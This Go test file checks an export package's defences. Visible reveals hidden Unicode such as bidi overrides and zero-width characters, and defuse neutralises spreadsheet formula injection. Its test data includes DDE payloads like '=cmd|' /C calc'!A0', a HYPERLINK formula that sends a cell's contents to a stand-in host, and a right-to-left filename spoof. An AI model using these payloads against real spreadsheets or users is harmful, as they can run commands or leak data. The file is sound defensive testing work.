package export

import (
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestVisibleShowsHiddenCharacters(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"abc 김석한", "abc 김석한"},
		{"evil\u202Egnp.exe", "evil<U+202E>gnp.exe"},
		{"\u202A\u202B\u202C\u202D", "<U+202A><U+202B><U+202C><U+202D>"},
		{"a\u2066b\u2067c\u2068d\u2069", "a<U+2066>b<U+2067>c<U+2068>d<U+2069>"},
		{"\u200E\u200F\u061C", "<U+200E><U+200F><U+061C>"},
		{"pass\u200Bword", "pass<U+200B>word"},
		{"x\u2060y\uFEFFz\u00ADw", "x<U+2060>y<U+FEFF>z<U+00AD>w"},
		{"one\u2028two\u2029three", "one<U+2028>two<U+2029>three"},
		{"tab\tand\nline", "tab\tand\nline"},
		{"cr\r\x00\x1b\x7f\u0085", "cr<U+000D><U+0000><U+001B><U+007F><U+0085>"},
		{"\u3164\uFFA0", "<U+3164><U+FFA0>"},
		{"\u2061\u2064", "<U+2061><U+2064>"},
		{"\uFFFE\uFFFF\uFDD0\U0010FFFF", "<U+FFFE><U+FFFF><U+FDD0><U+10FFFF>"},
		{"bad\xffbyte", "bad<0xFF>byte"},
		// Joiners that join nothing.
		{"김\u200D철", "김<U+200D>철"},
		{"pay\u200Cpal", "pay<U+200C>pal"},
		{"\u200D👩", "<U+200D>👩"},
		{"👩\u200Da", "👩<U+200D>a"},
		{"\uFE0F\u200D🌈", "<U+FE0F><U+200D>🌈"},
		{"x\uFE0F\u200D🌈", "x\uFE0F<U+200D>🌈"},
		// Tags outside a flag: hidden ASCII.
		{"hi\U000E0041\U000E0042", "hi<U+E0041><U+E0042>"},
		{"🏴\U000E0067\U000E0062", "🏴<U+E0067><U+E0062>"},
		{"a\U000E007F", "a<U+E007F>"},
		// A second variation selector in a row, or one at the start.
		{"a\uFE0F\uFE0F", "a\uFE0F<U+FE0F>"},
		{"\uFE0Fa", "<U+FE0F>a"},
		{"x\U000E0100\U000E0101", "x\U000E0100<U+E0101>"},
	} {
		if got := Visible(tc.in); got != tc.want {
			t.Errorf("Visible(%+q) = %+q, want %+q", tc.in, got, tc.want)
		}
	}
}

// Real sequences that need joiners, tags or selectors come out whole.
func TestVisibleKeepsEmojiAndScripts(t *testing.T) {
	for _, s := range []string{
		"👩‍💻",        // woman technologist: 1F469 200D 1F4BB
		"🏳️‍🌈",       // rainbow flag: 1F3F3 FE0F 200D 1F308
		"🇰🇷🇰🇵",       // regional indicators
		"🧑🏽‍🚀",       // astronaut, medium skin tone
		"👨‍👩‍👧‍👦",    // family
		"❤️‍🔥",       // heart on fire: 2764 FE0F 200D 1F525
		"🏴‍☠️",       // pirate flag: 1F3F4 200D 2620 FE0F
		"👩🏻‍❤️‍💋‍👨🏿", // kiss, skin tones
		"🏴\U000E0067\U000E0062\U000E0073\U000E0063\U000E0074\U000E007F", // Scotland
		"1️⃣ #️⃣",       // keycaps
		"می\u200Cخواهم", // Persian: ZWNJ
		"क्\u200Dष",     // Devanagari: ZWJ after virama
		"ന്\u200D",      // Malayalam chillu
		"葛\U000E0100",   // ideographic variation sequence
		"손전화로 인터네트를 썼다 😀 👍🏾",
	} {
		if got := Visible(s); got != s {
			t.Errorf("Visible(%+q) = %+q, want it unchanged", s, got)
		}
		if got, _ := AppendJSONString(nil, s); string(got) != `"`+s+`"` {
			t.Errorf("AppendJSONString(%+q) = %s, want it unescaped", s, got)
		}
	}
}

func TestDefuse(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"=1+1", "'=1+1"},
		{"x;=1+1", "x;'=1+1"},
		{"multi\n=5+5;z", "multi\n'=5+5;z"},
		{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		{"-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{`=HYPERLINK("http://x.example/?"&A1,"click")`, `'=HYPERLINK("http://x.example/?"&A1,"click")`},
		{"＝1+1", "'＝1+1"},
		{"＠x", "'＠x"},
		{"－cmd", "'－cmd"},
		{" =1", " '=1"},
		{"\t=1", "\t'=1"},
		{`"=1+1"`, `"'=1+1"`},
		{"a, -b", "a, '-b"},
		{"a;- b", "a;'- b"},
		{"a|=b", "a|'=b"},
		{"a\t@b", "a\t'@b"},
		{"- first\n- second", "'- first\n'- second"},
		{"one =two", "one '=two"},
		{`x;"-1;+cmd|'/C calc'!A0"`, `x;"'-1;'+cmd|'/C calc'!A0"`},
		// Not dangerous: left alone.
		{"+86 10 1234 5678", "+86 10 1234 5678"},
		{"+82 (0)10-1234-5678", "+82 (0)10-1234-5678"},
		{"-5", "-5"},
		{"-5.5%", "-5.5%"},
		{"-1:1", "'-1:1"},
		{"-", "-"},
		{"--", "--"},
		{"1990-1995", "1990-1995"},
		{"5 - 10 won", "5 - 10 won"},
		{"phone: +1 555 0100", "phone: +1 555 0100"},
		{"a=1", "a=1"},
		{"e-mail", "e-mail"},
		{"it's", "it's"},
		{"", ""},
		{"김석한", "김석한"},
	} {
		if got := defuse(tc.in); got != tc.want {
			t.Errorf("defuse(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestEscapeCode(t *testing.T) {
	for in, want := range map[string]string{
		".s": `\.s`, ".n": `\.n`, ".v": `\.v`, `\.s`: `\\.s`, `\\.v`: `\\\.v`,
		".x": ".x", "..s": "..s", ".s ": ".s ", "a.s": "a.s", `\`: `\`, "": "",
	} {
		if got := escapeCode(in); got != want {
			t.Errorf("escapeCode(%q) = %q, want %q", in, got, want)
		}
	}
}

// FuzzDefuse checks that defuse only ever inserts single quotes, and that
// after it no segment a tool could read as a cell starts a formula.
func FuzzDefuse(f *testing.F) {
	for _, s := range []string{"=1+1", "x;=1+1", "multi\n=5+5;z", "+86 10", "a, -b", `x;"-1;+c"`, " \t\"=", "－5", "- a\n-1"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		s = Visible(s) // as the CSV writer calls it
		out := defuse(s)
		// Deleting inserted quotes gives s back: out is s with quotes added.
		i := 0
		for _, r := range out {
			if i < len(s) && strings.HasPrefix(s[i:], string(r)) {
				i += len(string(r))
			} else if r != '\'' {
				t.Fatalf("defuse(%q) = %q: not only quotes added", s, out)
			}
		}
		if i != len(s) {
			t.Fatalf("defuse(%q) = %q: text lost", s, out)
		}
		if defuse(out) != out {
			t.Fatalf("defuse(%q) = %q, which is still dangerous", s, out)
		}
		if dangerousAt(out) >= 0 {
			t.Fatalf("defuse(%q) = %q: dangerous segment at %d", s, out, dangerousAt(out))
		}
	})
}

// dangerousAt is an independent, slow statement of the rule: for every
// separator set a tool may use, the start of the field and every place
// after a separator or line break, after white space and quotes, must not
// start a formula. It returns the offset of the first dangerous one, or -1.
func dangerousAt(s string) int {
	for _, sep := range []rune{',', ';', '\t', ' ', '|'} {
		starts := []int{0}
		for i, r := range s {
			if r == sep || r == '\n' || r == '\r' {
				starts = append(starts, i+utf8.RuneLen(r))
			}
		}
		for _, b := range starts {
			j, quoted := b, false
			for j < len(s) {
				r, size := utf8.DecodeRuneInString(s[j:])
				if r == '"' {
					quoted = true
				} else if !strings.ContainsRune(" \t\n\r\u00a0\u3000\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a\u202f\u205f\v\f\u0085\u1680\u2028\u2029", r) {
					break
				}
				j += size
			}
			if j == len(s) {
				continue
			}
			r, size := utf8.DecodeRuneInString(s[j:])
			if strings.ContainsRune("=@＝＠﹦﹫", r) {
				return j
			}
			if strings.ContainsRune("+-＋－﹢﹣−", r) {
				rest := s[j+size:]
				end := sep
				if quoted {
					end = '\n'
				}
				if k := strings.IndexFunc(rest, func(c rune) bool { return c == end || c == '\n' || c == '\r' }); k >= 0 {
					rest = rest[:k]
				}
				if strings.TrimLeft(rest, "0123456789 .,()/+-%'") != "" {
					return j
				}
			}
		}
	}
	return -1
}

// FuzzVisible checks that Visible leaves nothing hidden, changes nothing
// else, and that JSONL strings decode to the exact text.
func FuzzVisible(f *testing.F) {
	for _, s := range []string{"a\u202Eb", "👩‍💻", "🏳️‍🌈", "🏴\U000E0067\U000E0062\U000E0073\U000E0063\U000E0074\U000E007F", "می\u200Cخواهم", "x\uFE0F\uFE0F", "\xff", "\"\\\n\t"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		v := Visible(s)
		if firstHidden(v) >= 0 {
			t.Fatalf("Visible(%+q) = %+q still hides something", s, v)
		}
		if firstHidden(s) < 0 && v != s {
			t.Fatalf("Visible(%+q) = %+q changed visible text", s, v)
		}
		js, err := AppendJSONString(nil, s)
		if !utf8.ValidString(s) {
			if err == nil {
				t.Fatalf("AppendJSONString(%+q) accepted text that is not UTF-8", s)
			}
			return
		}
		if err != nil {
			t.Fatal(err)
		}
		var back string
		if err := json.Unmarshal(js, &back); err != nil || back != s {
			t.Fatalf("AppendJSONString(%+q) = %s, which decodes to %+q, %v", s, js, back, err)
		}
		if firstHidden(string(js)) >= 0 {
			t.Fatalf("AppendJSONString(%+q) = %+q writes a hidden character", s, js)
		}
	})
}

// TestDefuseIsLinear gives defuse inputs that take quadratic time to a
// naive reading (every space is a boundary that skips all the spaces after
// it; every boundary before a long number reads it); it would take hours.
func TestDefuseIsLinear(t *testing.T) {
	const n = 1 << 20
	spaces, quotes, digits := strings.Repeat(" ", n), strings.Repeat(" \"", n/2), strings.Repeat("1", n)
	for _, tc := range []struct{ in, want string }{
		{spaces + "=1", spaces + "'=1"},
		{spaces + "+" + digits, spaces + "+" + digits},
		{quotes + "-" + digits + "x", quotes + "'-" + digits + "x"},
		{strings.Repeat(";+1", n/3), strings.Repeat(";+1", n/3)},
	} {
		if got := defuse(tc.in); got != tc.want {
			t.Errorf("defuse of %d bytes: got %d bytes, want %d", len(tc.in), len(got), len(tc.want))
		}
	}
}
